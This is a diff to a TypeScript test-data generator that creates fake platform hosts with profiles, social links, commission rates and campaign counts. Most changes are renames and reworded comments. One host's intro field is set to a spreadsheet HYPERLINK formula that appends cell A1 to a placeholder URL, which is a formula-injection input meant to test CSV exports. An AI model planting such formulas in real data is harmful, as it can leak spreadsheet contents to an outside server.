@@ -5,6 +5,7 @@ import {
   defaultRate,
   type Host,
   type HostProfile,
+  type Person,
   type RosterEntry,
   timeText,
 } from "../brand.js";
@@ -17,16 +18,6 @@ import {
   randomInteger,
   randomUuid,
 } from "./random.js";
-
-/** A host of the platform whom the brand has met. */
-export interface Person {
-  profile: HostProfile;
-  motto: string | null;
-  /** The rate agreed with this host, percentage; null: the brand's default. */
-  rate: number | null;
-  /** How many sales and clicks come from this host, compared with others. */
-  weight: number;
-}
 
 const firstNames =
   "Amélie|Björn|Chloe|Diego|Éowyn|Giulia|Ibrahim|Jūratė|Kofi|Mei-Ling|Niamh|Oskar|Priya|Rosa|Søren|Tomáš|Yuki|Zoë";
@@ -41,57 +32,57 @@ const towns = "Innsbruck, Austria|Boulder, CO|Bergen|Zürich|Leeds, UK|São Paul
 const mottos = "Slow is smooth|Carpe diem, carpe coffee|Leave it better|One more bend…".split("|");
 const networks = "instagram|tiktok|youtube|strava|website|twitter|facebook|linkedin".split("|");
 
-/** The text that a spreadsheet would run: one host carries it. */
+/** One host has a spreadsheet formula as their introduction, to test CSV exports. */
 const formula = '=HYPERLINK("https://example.com/?x="&A1,"My shop")';
 
-export function createPerson(seed: number, place: number): Person {
-  const d = createRandom(seed, "host", place);
-  const id = randomUuid(d);
-  const [first, last] = [pick(d, firstNames.split("|")), pick(d, lastNames.split("|"))];
-  const handle = `${first}${pick(d, ["", ".", "_"])}${last}${randomInteger(d, 1, 99)}`
+export function createPerson(seed: number, index: number): Person {
+  const random = createRandom(seed, "host", index);
+  const id = randomUuid(random);
+  const [first, last] = [pick(random, firstNames.split("|")), pick(random, lastNames.split("|"))];
+  const handle = `${first}${pick(random, ["", ".", "_"])}${last}${randomInteger(random, 1, 99)}`
     .normalize("NFD")
     .replace(/[^a-zA-Z0-9._]/g, "")
     .toLowerCase();
   const profile: HostProfile = {
     id,
-    username: orNull(d, 0.05, handle),
-    first_name: orNull(d, 0.04, first),
-    last_name: orNull(d, 0.06, last),
-    profile_photo: orNull(d, 0.1, `https://images.example.com/hosts/${id}.jpg`),
-    title: orNull(d, 0.2, `${pick(d, disciplines)} coach & "${pick(d, specialties)}" fan`),
-    intro: place === 3 ? formula : orNull(d, 0.15, pick(d, intros.split("|"))),
-    discipline: orNull(d, 0.1, pick(d, disciplines)),
-    specialty: orNull(d, 0.3, pick(d, specialties)),
-    location: orNull(d, 0.15, pick(d, towns)),
-    socials: orNull(d, 0.12, drawSocials(d, handle)),
+    username: orNull(random, 0.05, handle),
+    first_name: orNull(random, 0.04, first),
+    last_name: orNull(random, 0.06, last),
+    profile_photo: orNull(random, 0.1, `https://images.example.com/hosts/${id}.jpg`),
+    title: orNull(random, 0.2, `${pick(random, disciplines)} coach & "${pick(random, specialties)}" fan`),
+    intro: index === 3 ? formula : orNull(random, 0.15, pick(random, intros.split("|"))),
+    discipline: orNull(random, 0.1, pick(random, disciplines)),
+    specialty: orNull(random, 0.3, pick(random, specialties)),
+    location: orNull(random, 0.15, pick(random, towns)),
+    socials: orNull(random, 0.12, createSocials(random, handle)),
   };
   return {
     profile,
-    motto: orNull(d, 0.4, pick(d, mottos)),
-    rate: chance(d, 0.3) ? pick(d, [5, 7.5, 8, 10, 12.5, 15, 18, 20]) : null,
-    weight: pick(d, [1, 1, 2, 3, 5, 8]),
+    motto: orNull(random, 0.4, pick(random, mottos)),
+    rate: chance(random, 0.3) ? pick(random, [5, 7.5, 8, 10, 12.5, 15, 18, 20]) : null,
+    weight: pick(random, [1, 1, 2, 3, 5, 8]),
   };
 }
 
-function drawSocials(d: RandomStream, handle: string): Record<string, string> {
-  const chosen = networks.filter(() => chance(d, 0.3));
+function createSocials(random: RandomStream, handle: string): Record<string, string> {
+  const chosen = networks.filter(() => chance(random, 0.3));
   const names = chosen.length > 0 ? chosen : ["website"];
   return Object.fromEntries(names.map((name) => [name, `https://${name}.example.com/${handle}`]));
 }
 
-/** Returns the base host object of orders, analytics and assignments. */
+/** Returns the host object of orders, analytics and assignments. */
 export function toHost({ profile }: Person): Host {
   const { id, username, first_name, last_name, profile_photo } = profile;
   return { id, username, first_name, last_name, profile_photo };
 }
 
-/** Returns the content item's own shape of a host. */
+/** Returns the host object of library files. */
 export function toContentHost({ id, username, first_name, last_name }: Host): ContentItem["host"] {
   const name = [first_name, last_name].filter((part) => part !== null).join(" ");
   return { id, username, name: name === "" ? null : name };
 }
 
-/** Returns a list in which each item stands as often as its weight says: a wheel to draw from. */
+/** Returns a list with each item as many times as its weight, for weighted picks. */
 export function repeatByWeight<T extends { weight: number }>(items: readonly T[]): T[] {
   return items.flatMap((item) => Array.from({ length: item.weight }, () => item));
 }
@@ -101,19 +92,19 @@ export function createRosterEntry(
   { profile, rate }: Person,
   joined: number,
 ): RosterEntry {
-  const d = createRandom(0, profile.id);
+  const random = createRandom(0, profile.id);
   return {
-    relationship_id: randomUuid(d),
+    relationship_id: randomUuid(random),
     host: profile,
     status: "active",
     commission_rate: rate ?? defaultRate,
     joined_at: timeText(joined),
-    activated_at: orNull(d, 0.08, timeText(joined)),
+    activated_at: orNull(random, 0.08, timeText(joined)),
     campaigns: campaignsOf(profile.id, source.opportunities),
   };
 }
 
-/** Returns a host's `campaigns`, counted from the assignments; null for some of those who never had one. */
+/** Counts a host's assignments by status; null for some hosts without assignments. */
 function campaignsOf(hostId: string, opportunities: readonly Campaign[]): RosterEntry["campaigns"] {
   const counts = { PROPOSED: 0, ACTIVE: 0, COMPLETED: 0, DECLINED: 0 };
   const all = opportunities.flatMap(({ assignments }) => assignments);
